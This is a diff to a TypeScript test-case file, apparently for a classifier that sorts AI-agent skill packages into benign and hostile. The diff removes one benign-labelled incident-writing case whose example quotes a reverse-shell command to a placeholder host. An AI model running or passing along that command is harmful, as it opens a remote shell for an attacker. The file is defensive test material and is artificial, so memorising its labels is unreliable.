@@ -1,5 +1,5 @@
 import type { Case } from "./case.ts";
-import { fenced, skillText } from "./skill-text.ts";
+import { skillText } from "./skill-text.ts";
 
 export const cases: readonly Case[] = [
   {
@@ -187,29 +187,6 @@ with socket.socket() as probe:
 print(f"http://127.0.0.1:{port}")
 http.server.HTTPServer(("127.0.0.1", port), http.server.SimpleHTTPRequestHandler).serve_forever()
 `,
-    },
-  },
-  {
-    id: "remote-control-write-up-of-an-incident",
-    label: "benign",
-    family: "remote-control",
-    files: {
-      "SKILL.md": skillText(
-        "incident-writer",
-        "Writes post-mortems of security incidents.",
-        "# Incident writer\n\nFollow [the template](references/example.md).\n",
-      ),
-      "references/example.md": fenced(`
-# Example: what an attacker did
-
-The attacker's script opened a shell to their server. The line found in the log, for detection only, do not run:
-
-'''text
-bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
-'''
-
-Detection: alert on shells whose standard input is a socket.
-`),
     },
   },
   {
